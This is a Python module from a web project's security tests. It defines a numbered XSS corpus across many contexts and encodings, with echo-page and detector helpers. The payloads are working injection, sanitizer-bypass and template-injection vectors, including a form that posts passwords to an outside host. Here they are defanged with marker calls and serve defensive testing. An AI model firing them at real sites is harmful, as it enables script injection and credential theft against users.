"""The project's own XSS corpus: every vector, if it ever runs, says which one it was.

Each vector calls the marker ``xss(N)`` (or ``alert(N)``, ``confirm(N)``,
``prompt(N)``) with its own number when it executes, or names itself in a host
or an id (``//xss165.invalid/``, ``id=xss26``) where it cannot call anything
(a ``<base>``, a style sheet, a ``javascript:`` URL that only runs when followed).
The browser test (tests/browser/test_xss_everywhere.py) plants every vector in
every field a user can write and reports, per page, any marker call, dialog,
event-handler attribute, ``javascript:``/``data:`` URL in a live attribute, or
injected ``<script>``/``<base>``/``<meta http-equiv>`` element, with the number
found in it (:func:`numbers_in`). Template probes carry a ``tripwire``: text that
appears only if a template engine evaluated the probe (``xss133:49``).

Each vector also records where it is *meant* to run (``context``) and what an
application would have to do to its text first (``decode``: an HTML-unescape,
a URL-decode, NFKC…). :func:`echo_page` builds that page with the vector
unescaped; tests/browser/test_xss_detector.py opens it for every vector and
checks that the detector reports the vector's number, so no vector is a dud and
the detector cannot pass by seeing nothing. Vectors no current browser or
engine here would ever run are marked ``inert`` with the reason.

To add a vector: append it to its kind with the next free number (numbers are
never reused), use that number in its marker, and run
``pytest tests/security/test_xss_corpus.py tests/browser/test_xss_detector.py``.
"""

from __future__ import annotations

import base64
import codecs
import html
import json
import re
import unicodedata
from collections.abc import Iterable
from dataclasses import dataclass
from urllib.parse import unquote

#: The kinds of vector, as the issue lists them; each has several vectors.
KINDS = {
    "event-handler": "event handlers on many elements",
    "url": "javascript:, data: and vbscript: URLs with case, white-space and entity tricks",
    "svg-mathml": "SVG and MathML: script, animate/set href, foreignObject, integration points",
    "mutation": "mutation XSS: noscript/style/title/textarea/xmp/iframe/comment breakouts, "
    "namespace confusion, what a serialise-and-parse round trip changes",
    "attribute": "attribute breaking with \", ', backtick and unquoted values",
    "template": "template injection that would run if the text were ever rendered as a template",
    "css": "CSS: expression(), url(javascript:), behavior, -moz-binding, injected style sheets",
    "base-meta": "<base> and <meta http-equiv> (refresh, CSP, cookies, charset)",
    "embedding": "<iframe srcdoc>, <object>, <embed>, <portal>, <applet>",
    "form": "<form action> and formaction",
    "polyglot": "polyglots that work in several contexts at once",
    "encoded": "encoded forms: HTML entities, URL-encoding, UTF-7, full-width, JavaScript escapes",
    "script-context": "script and JSON contexts: </script>, quotes, template literals, U+2028",
}

#: Where a vector runs when written unescaped: the markup around it (``⟦v⟧`` is the vector).
CONTEXTS = {
    "html": "<div>⟦v⟧</div>",
    "attr-dq": '<input value="⟦v⟧">',
    "attr-sq": "<input value='⟦v⟧'>",
    "attr-unquoted": "<input value=⟦v⟧>",
    "style-attr": '<p style="⟦v⟧">x</p>',
    "url": '<a href="⟦v⟧">liên kết</a>',
    "title": "<title>⟦v⟧</title>",
    "textarea": "<textarea>⟦v⟧</textarea>",
    "style": "<style>⟦v⟧</style>",
    "comment": "<!-- ⟦v⟧ -->",
    "noscript": "<noscript>⟦v⟧</noscript>",
    "xmp": "<xmp>⟦v⟧</xmp>",
    "iframe": "<iframe>⟦v⟧</iframe>",
    "script-string": '<script>var s = "⟦v⟧";</script>',
    "script-sq": "<script>var s = '⟦v⟧';</script>",
    "script-template": "<script>var s = `⟦v⟧`;</script>",
    "script-comment": "<script>// ⟦v⟧\n</script>",
    "script-bare": "<script>var n = ⟦v⟧;</script>",
    "script-json": '<script>var data = {"a": "⟦v⟧"};</script>',
    "json-script": '<script type="application/json">{"a": "⟦v⟧"}</script>',
    # Rendered by the portal's own Jinja environment, as if the text were a template.
    "jinja": "<div>⟦v⟧</div>",
    # Parsed in an inert <template>, serialised, parsed again into the page: the
    # round trip a sanitizer's output makes before the browser shows it.
    "roundtrip": "<div id=round-trip></div><script>"
    "var t = document.createElement('template'); t.innerHTML = ⟦json⟧;"
    "document.getElementById('round-trip').innerHTML = t.innerHTML;</script>",
}

#: What an application would have to do to a vector's text before it runs.
DECODERS = {
    "": lambda text: text,
    "entities": html.unescape,
    "entities-twice": lambda text: html.unescape(html.unescape(text)),
    "url": unquote,
    "url-twice": lambda text: unquote(unquote(text)),
    "utf-7": lambda text: text.encode("ascii").decode("utf-7"),
    "nfkc": lambda text: unicodedata.normalize("NFKC", text),
    "js-escapes": lambda text: codecs.decode(text, "unicode_escape"),
    "base64": lambda text: base64.b64decode(text).decode("utf-8"),
}


@dataclass(frozen=True)
class Vector:
    number: int
    kind: str
    payload: str
    context: str = "html"
    decode: str = ""
    #: Text that appears only if a template engine evaluated the payload.
    tripwire: str = ""
    #: Why no browser or engine used here runs it (empty: it runs in its context).
    inert: str = ""

    @property
    def decoded(self) -> str:
        """The payload after the decoding an application would need to get wrong."""
        return DECODERS[self.decode](self.payload)


def v(number: int, payload: str, **options) -> tuple[int, str, dict]:
    return number, payload, options


def kind(name: str, *vectors: tuple[int, str, dict]) -> list[Vector]:
    return [Vector(number, name, payload, **options) for number, payload, options in vectors]


VECTORS: list[Vector] = [
    # -- Event handlers on many elements; most fire without a click (errors, load, autofocus).
    *kind(
        "event-handler",
        v(1, "<img src=x onerror=xss(1)>"),
        v(2, "<svg onload=xss(2)>"),
        v(3, "<body onload=xss(3)>"),
        v(4, "<input autofocus onfocus=xss(4)>"),
        v(5, "<textarea autofocus onfocus=xss(5)></textarea>"),
        v(6, "<details open ontoggle=xss(6)>"),
        v(7, "<video><source onerror=xss(7)></video>"),
        v(8, "<iframe onload=xss(8)></iframe>"),
        v(9, "<object data=x onerror=xss(9)></object>"),
        v(10, "<div onmouseover=xss(10)>Di chuột vào đây</div>"),
        v(11, "<body onpageshow=xss(11)>"),
        v(12, "<div tabindex=0 autofocus onfocusin=xss(12)>x</div>"),
        v(13, "<input onblur=xss(13) autofocus><input autofocus>"),
        v(14, "<style onload=xss(14)>*{}</style>"),
        v(15, "<link rel=stylesheet href=x onerror=xss(15)>"),
        v(16, "<img src=x:x onerror=xss(16)//"),
        v(17, "<img/src/onerror=xss(17)>"),
        v(18, "<img\tsrc=x\tonerror=xss(18)>"),
        v(19, "<IMG SRC=x ONERROR=xss(19)>"),
        v(20, '<div style="animation:spin 1s" onanimationstart=xss(20)>x</div>'),
        v(21, "<input type=image src=x onerror=xss(21)>"),
        v(22, "<img srcset=x onerror=xss(22)>"),
        v(23, "<xss onclick=xss(23)>phần tử lạ</xss>"),
        v(24, "<x-tin tabindex=0 autofocus onfocus=xss(24)></x-tin>"),
        v(25, "<img src=x onerror=top.xss(25)>"),
        v(26, "<img src=x onerror=self['x'+'ss'](26) id=xss26>"),
        v(27, "<img src=x onerror=eval('xss(27)')>"),
        v(28, "<img src=x onerror=eval(atob('eHNzKDI4KQ==')) id=xss28>"),
        v(29, "<img src=x onerror=Function('xss(29)')()>"),
        v(30, "<img src=x onerror=alert(30)>"),
        v(31, "<img src=x onerror=confirm(31)>"),
        v(32, "<img src=x onerror=prompt(32)>"),
        v(33, "<img src=x onerror=xss`33`>"),
        v(34, "<image src=x onerror=xss(34)>"),
        v(35, "<a href=#neo onfocus=xss(35) id=neo tabindex=1>neo</a>"),
    ),
    # -- javascript:, data: and vbscript: URLs. Entities, tabs, new lines and leading controls are
    # removed by the browser's URL parser; the last ones are bare URLs for an href.
    *kind(
        "url",
        v(36, '<a href="javascript:xss(36)">Xem thêm</a>'),
        v(37, "<a href=JaVaScRiPt:xss(37)>x</a>"),
        v(38, '<a href="&#106;avascript:xss(38)">x</a>'),
        v(39, '<a href="jav&#x09;ascript:xss(39)">x</a>'),
        v(40, '<a href=" javascript:xss(40)">x</a>'),
        v(41, '<a href="&#x01;javascript:xss(41)">x</a>'),
        v(42, '<a href="java&#x0A;script:xss(42)">x</a>'),
        v(43, '<a href="javascript&colon;xss(43)">x</a>'),
        v(44, '<a href="javascript&#58;xss(44)">x</a>'),
        v(
            45,
            '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058xss(45)">x</a>',
        ),
        v(46, '<a href="javascript:%78ss(46)" id=xss46>x</a>'),
        v(47, '<a href="javascript://%0axss(47)">x</a>'),
        v(48, '<iframe src="javascript:xss(48)"></iframe>'),
        v(49, '<iframe src="data:text/html,<script>xss(49)</script>"></iframe>'),
        v(
            50,
            '<iframe src="data:text/html;base64,PHNjcmlwdD54c3MoNTApPC9zY3JpcHQ+" id=xss50></iframe>',
        ),
        v(51, '<a href="data:text/html;base64,PHNjcmlwdD54c3MoNTEpPC9zY3JpcHQ+" id=xss51>x</a>'),
        v(52, '<a href="vbscript:xss(52)">x</a>'),
        v(53, '<a href="javascript&NewLine;:xss(53)">x</a>'),
        v(54, '<a href="jAvAsCrIpT&Tab;:xss(54)">x</a>'),
        v(55, '<a href="\tjavascript:xss(55)">x</a>'),
        v(56, '<table background="javascript:xss(56)"><tr><td>x</td></tr></table>'),
        v(57, "javascript:xss(57)", context="url"),
        v(58, "java&#115;cript:xss(58)", context="url"),
        v(59, "data:text/html,<script>xss(59)</script>", context="url"),
        v(60, "javascript:xss%28%36%30%29//xss60", context="url"),
        v(61, "%6A%61%76%61%73%63%72%69%70%74:xss(61)", context="url", decode="url"),
        v(62, "javascript\t:xss(62)", context="url"),
        v(
            63,
            "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;xss(63)",
            context="url",
        ),
        v(64, "javascript:'<img src=x onerror=xss(64)>'", context="url"),
    ),
    # -- SVG and MathML: scripts, animated links, and the HTML integration points
    # (foreignObject, desc, title, mtext) where HTML parsing resumes.
    *kind(
        "svg-mathml",
        v(65, "<svg><script>xss(65)</script></svg>"),
        v(66, '<svg><script href="data:,xss(66)"></script></svg>'),
        v(
            67,
            "<svg><a><animate attributeName=href values=javascript:xss(67) /><text x=20 y=20>Bấm</text></a></svg>",
        ),
        v(
            68,
            "<svg><a><set attributeName=href to=javascript:xss(68) /><text x=20 y=20>Bấm</text></a></svg>",
        ),
        v(69, "<svg><foreignObject><img src=x onerror=xss(69)></foreignObject></svg>"),
        v(70, "<svg><desc><img src=x onerror=xss(70)></desc></svg>"),
        v(71, "<svg><title><img src=x onerror=xss(71)></title></svg>"),
        v(72, "<math><mtext><img src=x onerror=xss(72)></mtext></math>"),
        v(73, "<svg><image href=x onerror=xss(73) /></svg>"),
        v(
            74,
            "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='xss(74)'/></svg>#x\" /></svg>",
        ),
        v(75, "<svg><style><img src=x onerror=xss(75)></style></svg>"),
        v(76, '<svg><a xlink:href="javascript:xss(76)"><rect width=100 height=20 /></a></svg>'),
        v(77, '<svg onload="xss(77)" xmlns="http://www.w3.org/2000/svg"></svg>'),
        v(
            78,
            '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">xss(78)</handler></svg>',
        ),
        v(79, "<svg><discard onbegin=xss(79) /></svg>"),
        v(80, '<math><a href="javascript:xss(80)">x</a></math>'),
        v(81, "<svg><script>&#x78;ss(81)</script></svg>"),
        v(82, "<math><style><img src=x onerror=xss(82)></style></math>"),
        v(
            83,
            "<svg><rect width=9 height=9><set attributeName=onmouseover to=xss(83) /></rect></svg>",
        ),
        v(84, '<math href="javascript:xss(84)">x</math>'),
    ),
    # -- Mutation XSS: raw-text elements (noscript, xmp, iframe, textarea, title, style) and
    # comments that end where a sanitizer thinks they do not, namespace confusion, and
    # markup that a parse, serialise and parse round trip turns into live elements.
    *kind(
        "mutation",
        v(85, '<noscript><p title="</noscript><img src=x onerror=xss(85)>"></noscript>'),
        v(86, "<noscript><style></noscript><img src=x onerror=xss(86)>"),
        v(87, '<xmp><p title="</xmp><img src=x onerror=xss(87)>"></xmp>'),
        v(88, '<noembed><p title="</noembed><img src=x onerror=xss(88)>">'),
        v(89, '<iframe><p title="</iframe><img src=x onerror=xss(89)>">'),
        v(90, '<textarea><p title="</textarea><img src=x onerror=xss(90)>">'),
        v(91, '<title><p title="</title><img src=x onerror=xss(91)>">'),
        v(92, '<style><p title="</style><img src=x onerror=xss(92)>">'),
        v(93, '<svg></p><style><a id="</style><img src=x onerror=xss(93)>">'),
        v(
            94,
            '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=xss(94)&gt;">',
            context="roundtrip",
        ),
        v(
            95,
            "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss(95)>",
            context="roundtrip",
        ),
        v(96, "<!--><img src=x onerror=xss(96)>-->"),
        v(97, "<!---><img src=x onerror=xss(97)>-->"),
        v(98, "<?xml ?><img src=x onerror=xss(98)>"),
        v(99, "<![CDATA[><img src=x onerror=xss(99)>]]>"),
        v(100, "<style><![CDATA[</style><img src=x onerror=xss(100)>]]></style>"),
        v(101, "</textarea><img src=x onerror=xss(101)>", context="textarea"),
        v(102, "</title><img src=x onerror=xss(102)>", context="title"),
        v(103, "</style><img src=x onerror=xss(103)>", context="style"),
        v(104, "--><img src=x onerror=xss(104)>", context="comment"),
        v(105, "</noscript><img src=x onerror=xss(105)>", context="noscript"),
        v(106, "</xmp><img src=x onerror=xss(106)>", context="xmp"),
        v(107, "</iframe><img src=x onerror=xss(107)>", context="iframe"),
        v(108, "<svg><p><img src=x onerror=xss(108)>"),
        v(
            109,
            '<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=xss(109)>">',
            context="roundtrip",
        ),
        v(110, '<a href="</a><img src=x onerror=xss(110)>">x</a>', context="roundtrip"),
        v(
            111,
            "<svg><style>&lt;/style&gt;&lt;img src=x onerror=xss(111)&gt;</style></svg>",
            context="roundtrip",
        ),
    ),
    # -- Breaking out of an attribute value: ", ', backtick, unquoted (space, tab, form feed).
    *kind(
        "attribute",
        v(112, '" onmouseover="xss(112)', context="attr-dq"),
        v(113, '"><img src=x onerror=xss(113)>', context="attr-dq"),
        v(114, '" autofocus onfocus="xss(114)', context="attr-dq"),
        v(115, '"/onmouseover=xss(115) x="', context="attr-dq"),
        v(116, '"onfocus=xss(116) autofocus x="', context="attr-dq"),
        v(117, '" style="animation-name:spin" onanimationstart="xss(117)', context="attr-dq"),
        v(118, "' onmouseover='xss(118)", context="attr-sq"),
        v(119, "'><svg onload=xss(119)>", context="attr-sq"),
        v(120, "' autofocus onfocus='xss(120)", context="attr-sq"),
        v(121, "x onmouseover=xss(121)", context="attr-unquoted"),
        v(122, "x><img src=x onerror=xss(122)>", context="attr-unquoted"),
        v(123, "x\tonfocus=xss(123)\tautofocus", context="attr-unquoted"),
        v(124, "x\x0conmouseover=xss(124)", context="attr-unquoted"),
        v(125, "` onmouseover=xss(125) x=`", context="attr-unquoted"),
        v(126, "`\"' onmouseover=xss(126) ", context="attr-dq"),
        v(127, 'color:red" onmouseover="xss(127)', context="style-attr"),
        v(128, '"><svg/onload=xss(128)>', context="url"),
        v(129, "x'/onmouseover=xss`129`/'@example.org", context="attr-sq"),
        v(130, "&quot; onmouseover=xss(130) x=&quot;", context="attr-dq", decode="entities"),
        v(131, "&#39; onmouseover=xss(131) x=&#39;", context="attr-sq", decode="entities"),
        v(132, "%22%3E%3Csvg%20onload%3Dxss(132)%3E", context="attr-dq", decode="url"),
    ),
    # -- Template injection: harmless as text, but rendered by Jinja it runs or leaves its tripwire.
    *kind(
        "template",
        v(133, "xss133:{{ 7*7 }}", context="jinja", tripwire="xss133:49"),
        v(134, "xss134:{{7*'7'}}", context="jinja", tripwire="xss134:7777777"),
        v(135, "{{ '<img src=x onerror=xss(135)>'|safe }}", context="jinja"),
        v(136, "{% if true %}{{ '<svg onload=xss(136)>'|safe }}{% endif %}", context="jinja"),
        v(137, "xss137:{{ config.__class__.__name__ }}", context="jinja", tripwire="xss137:Config"),
        v(
            138,
            "xss138:{{ self.__class__.__name__ }}",
            context="jinja",
            tripwire="xss138:TemplateReference",
        ),
        v(139, "xss139:{{ request.method }}", context="jinja", tripwire="xss139:GET"),
        v(
            140,
            "xss140:{{ cycler.__init__.__globals__.os.name }}",
            context="jinja",
            tripwire="xss140:posix",
        ),
        v(141, "{% set n = 141 %}xss{{ n }}:tpl", context="jinja", tripwire="xss141:tpl"),
        v(
            142,
            "{{ ('%c'|format(60) ~ 'img src=x onerror=xss(142)' ~ '%c'|format(62))|safe }}",
            context="jinja",
        ),
        v(143, '{{ ("<scr"~"ipt>xss(143)</scr"~"ipt>")|safe }}', context="jinja"),
        v(144, "xss144-{# x #}-tpl", context="jinja", tripwire="xss144--tpl"),
        v(145, "xss145{{7*7}}@example.org", context="jinja", tripwire="xss14549@example.org"),
        v(146, "{{ '{{' }}xss146{{ '}}' }}", context="jinja", tripwire="{{xss146}}"),
        v(
            147,
            "xss147:#{7*7}",
            tripwire="xss147:49",
            inert="Ruby and Pug interpolation; no such engine renders this site",
        ),
        v(
            148,
            "xss148:<%= 7*7 %>",
            tripwire="xss148:49",
            inert="ERB/EJS; no such engine renders this site",
        ),
        v(
            149,
            "xss149:[[${7*7}]]",
            tripwire="xss149:49",
            inert="Thymeleaf; no such engine renders this site",
        ),
        v(
            150,
            "{{constructor.constructor('xss(150)')()}}",
            inert="AngularJS template; the site loads no AngularJS",
        ),
    ),
    # -- CSS: legacy script in styles, style-based requests and injected style sheets.
    *kind(
        "css",
        v(151, '<div style="background:url(javascript:xss(151))">x</div>'),
        v(152, '<div style="width:expression(xss(152))">x</div>'),
        v(153, '<style>*{background:url("javascript:xss(153)")}</style>'),
        v(154, "<style>@import 'javascript:xss(154)';</style>"),
        v(155, '<link rel=stylesheet href="javascript:xss(155)">'),
        v(156, '<div style="behavior:url(xss156.htc)">x</div>'),
        v(157, '<div style="-moz-binding:url(//xss157.invalid/x.xml#x)">x</div>'),
        v(
            158,
            '<style>@keyframes xss158{}</style><div style="animation-name:xss158" onanimationstart="xss(158)"></div>',
        ),
        v(159, '<div style="x:expr/**/ession(xss(159))">x</div>'),
        v(160, '<div style="background-image:url(&#1;javascript:xss(160))">x</div>'),
        v(161, "<style>body{background:url(//xss161.invalid/x.png)}</style>"),
        v(162, '<div style="width:e\\xpression(xss(162))">x</div>'),
        v(163, "background:url(javascript:xss(163))", context="style-attr"),
        v(164, "</style><style>@import'//xss164.invalid';</style>", context="style"),
    ),
    # -- <base> and <meta http-equiv>: they change the page without running script.
    *kind(
        "base-meta",
        v(165, '<base href="//xss165.invalid/">'),
        v(166, '<base href="javascript:xss(166)//">'),
        v(167, "<base target=_blank href=//xss167.invalid/>"),
        v(168, '<meta http-equiv="refresh" content="0;url=javascript:xss(168)">'),
        v(
            169,
            '<meta http-equiv=refresh content="0; URL=data:text/html,<script>xss(169)</script>">',
        ),
        v(
            170,
            '<meta http-equiv="Content-Security-Policy" content="script-src \'none\'" id=xss170>',
        ),
        v(171, '<meta http-equiv="content-type" content="text/html; charset=utf-7" id=xss171>'),
        v(172, "<link rel=preload as=script href=//xss172.invalid/x.js>"),
    ),
    # -- Frames and plugins: srcdoc, object, embed, portal, applet.
    *kind(
        "embedding",
        v(173, '<iframe srcdoc="<script>xss(173)</script>"></iframe>'),
        v(174, '<iframe srcdoc="&lt;img src=x onerror=xss(174)&gt;"></iframe>'),
        v(175, '<object data="javascript:xss(175)"></object>'),
        v(
            176,
            '<object type="text/html" data="data:text/html,<script>xss(176)</script>"></object>',
        ),
        v(177, '<embed src="javascript:xss(177)">'),
        v(
            178,
            "<embed type=\"image/svg+xml\" src=\"data:image/svg+xml,<svg onload='xss(178)' xmlns='http://www.w3.org/2000/svg'/>\">",
        ),
        v(179, "<iframe src=//xss179.invalid></iframe>"),
        v(180, "<portal src=//xss180.invalid></portal>"),
        v(181, "<applet code=xss181.class></applet>"),
        v(182, "<iframe name=xss182 src=\"javascript:'<script>xss(182)</script>'\"></iframe>"),
    ),
    # -- Forms that post somewhere else or run script when submitted.
    *kind(
        "form",
        v(183, '<form action="javascript:xss(183)"><button>Gửi</button></form>'),
        v(184, '<form><button formaction="javascript:xss(184)">Gửi</button></form>'),
        v(
            185,
            "<form action=//xss185.invalid/dang-nhap method=post><input name=password type=password></form>",
        ),
        v(186, "<input type=submit formaction=javascript:xss(186) value=Gửi>"),
        v(
            187,
            "<form id=xss187></form><button form=xss187 formaction=javascript:xss(187)>x</button>",
        ),
        v(188, "<isindex action=javascript:xss(188) type=submit>"),
        v(
            189,
            '<form method=post action="data:text/html,<script>xss(189)</script>"><button>x</button></form>',
        ),
    ),
    # -- Polyglots: one payload that runs in several contexts.
    *kind(
        "polyglot",
        v(
            190,
            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=xss(190) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=xss(190)//>\\x3e",
        ),
        v(191, "\"'><img src=x onerror=xss(191)>"),
        v(192, "'\"--></style></script></title></textarea><svg onload=xss(192)>"),
        v(
            193,
            'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=xss(193)//>',
            context="url",
        ),
        v(194, "--!><svg/onload=xss(194)>", context="comment"),
        v(
            195,
            "\"onclick=xss(195)//<button ' onclick=xss(195)//> */ xss(195)//",
            context="attr-dq",
        ),
        v(196, "<svg/onload=xss(196)>\"><svg/onload=xss(196)>'><svg/onload=xss(196)>"),
        v(
            197,
            "';xss(197)//\\';xss(197)//\";xss(197)//\\\";xss(197)//--></SCRIPT>\">'><SCRIPT>xss(197)</SCRIPT>",
            context="script-string",
        ),
        v(
            198,
            "</title></textarea></style></noscript></xmp></iframe></noembed><svg onload=xss(198)>",
            context="textarea",
        ),
        v(199, "'\"><svg/onload=xss(199)>", context="attr-sq"),
        v(200, "\"'`><svg onload=xss(200)>", context="attr-dq"),
    ),
    # -- Encoded forms that run only if something decodes them before output, and script
    # written with escapes the JavaScript parser undoes.
    *kind(
        "encoded",
        v(201, "&lt;img src=x onerror=xss(201)&gt;", decode="entities"),
        v(202, "&#60;svg onload=xss(202)&#62;", decode="entities"),
        v(203, "&#x3C;script&#x3E;xss(203)&#x3C;/script&#x3E;", decode="entities"),
        v(204, "&amp;lt;img src=x onerror=xss(204)&amp;gt;", decode="entities-twice"),
        v(205, "%3Cimg%20src%3Dx%20onerror%3Dxss(205)%3E", decode="url"),
        v(206, "%253Csvg%2520onload%253Dxss(206)%253E", decode="url-twice"),
        v(207, "+ADw-script+AD4-xss(207)+ADw-/script+AD4-", decode="utf-7"),
        v(208, "+ADw-img src+AD0-x onerror+AD0-xss(208)+AD4-", decode="utf-7"),
        v(209, "＜img src=x onerror=xss(209)＞", decode="nfkc"),
        v(210, "＜ｓｃｒｉｐｔ＞ｘｓｓ(２１０)＜／ｓｃｒｉｐｔ＞", decode="nfkc"),
        v(211, "﹤svg onload=xss(211)﹥", decode="nfkc"),
        v(212, "<img src=x onerror=\\u0078ss(212) id=xss212>"),
        v(213, "<svg onload=&#x78;&#x73;&#x73;&#x28;213&#x29;>"),
        v(
            214,
            "<img src=x onerror=eval(String.fromCharCode(120,115,115,40,50,49,52,41)) id=xss214>",
        ),
        v(215, "<img src=x onerror=location='javascript:xss%28215%29'>"),
        v(216, "\\x3cimg src=x onerror=xss(216)\\x3e", decode="js-escapes"),
        v(217, "\\u003csvg onload=xss(217)\\u003e", decode="js-escapes"),
        v(218, "PGltZyBzcmM9eCBvbmVycm9yPXhzcygyMTgpPg==", decode="base64"),
        v(219, "<ScRiPt>xss(219)</sCrIpT>"),
        v(220, "<script>xss(220)</script>"),
        v(221, "<script src=data:,xss(221)></script>"),
        v(
            222,
            "%u003Cimg src=x onerror=xss(222)%u003E",
            inert="IIS-style %u escapes; nothing in this stack decodes them",
        ),
    ),
    # -- Script and JSON contexts: ending the script element, quotes, template literals,
    # line separators that end a // comment, HTML comments in script.
    *kind(
        "script-context",
        v(223, "</script><script>xss(223)</script>", context="script-string"),
        v(224, "</script><img src=x onerror=xss(224)>", context="script-string"),
        v(225, "</ScRiPt ><svg onload=xss(225)>", context="script-string"),
        v(226, '"; xss(226); "', context="script-string"),
        v(227, "';xss(227)//", context="script-sq"),
        v(228, "\u2028xss(228)//", context="script-comment"),
        v(229, "\u2029xss(229)//", context="script-comment"),
        v(230, '"}</script><script>xss(230)</script>', context="json-script"),
        v(231, '"};xss(231);//', context="script-json"),
        v(232, "${xss(232)}", context="script-template"),
        v(233, "</script\n><script>xss(233)</script>", context="script-string"),
        v(
            234,
            "\\x3c/script\\x3e\\x3cscript\\x3exss(234)\\x3c/script\\x3e",
            context="script-string",
            decode="js-escapes",
        ),
        v(235, "1;xss(235)", context="script-bare"),
        v(236, "0<!--\nxss(236)", context="script-bare"),
        v(237, "-->\u2028xss(237)//", context="script-comment"),
    ),
]


BY_NUMBER = {vector.number: vector for vector in VECTORS}
LIVE = [vector for vector in VECTORS if not vector.inert]
TRIPWIRES = {vector.tripwire: vector.number for vector in VECTORS if vector.tripwire}

_NUMBER = re.compile(
    r"(?:xss|alert|confirm|prompt)"
    r"(?:[\s(`'\"\]\[\\]|%28|&lpar;|&#0*40;?|&#x0*28;?)*"
    r"(\d{1,4})(?!\d)",
    re.IGNORECASE,
)


def numbers_in(text: str) -> list[int]:
    """The vector numbers a piece of markup or script names (``xss(17)``, ``xss17.invalid``)."""
    found = []
    for match in _NUMBER.finditer(text or ""):
        number = int(match.group(1))
        if number in BY_NUMBER and number not in found:
            found.append(number)
    return found


def stored_form(payload: str) -> str:
    """A vector as a form field keeps it: surrounding white space trimmed, CR LF as LF."""
    return payload.replace("\r\n", "\n").replace("\r", "\n").strip()


def pack(
    vectors: Iterable[Vector], limit: int, separator: str = " ", *, longer_alone: bool = False
) -> list[str]:
    """The vectors' payloads joined into as few texts of at most ``limit`` characters as fit.

    For fields that take fewer characters than the whole corpus: each text goes
    into one object (an article, a category, a user), so every vector passes
    through the field somewhere. No payload is split; one longer than ``limit``
    is an error, or with ``longer_alone`` a text of its own (for a query
    parameter the page cuts short itself).
    """
    texts: list[str] = []
    current = ""
    for vector in vectors:
        payload = stored_form(vector.payload)
        candidate = f"{current}{separator}{payload}" if current else payload
        if len(candidate) <= limit:
            current = candidate
            continue
        if current:
            texts.append(current)
        if len(payload) > limit and not longer_alone:
            raise ValueError(f"vector {vector.number} is longer than {limit} characters")
        current = payload
    if current:
        texts.append(current)
    return texts


def echo_page(vector: Vector) -> str:
    """A whole page with the vector unescaped in the context it is meant for."""
    text = vector.decoded
    body = CONTEXTS[vector.context]
    script_safe = json.dumps(text).replace("</", "<\\/").replace("<!--", "<\\!--")
    body = body.replace("⟦json⟧", script_safe).replace("⟦v⟧", text)
    return (
        '<!doctype html><html lang="vi"><head><meta charset="utf-8">'
        f"<title>Vector {vector.number}</title></head><body>{body}</body></html>"
    )
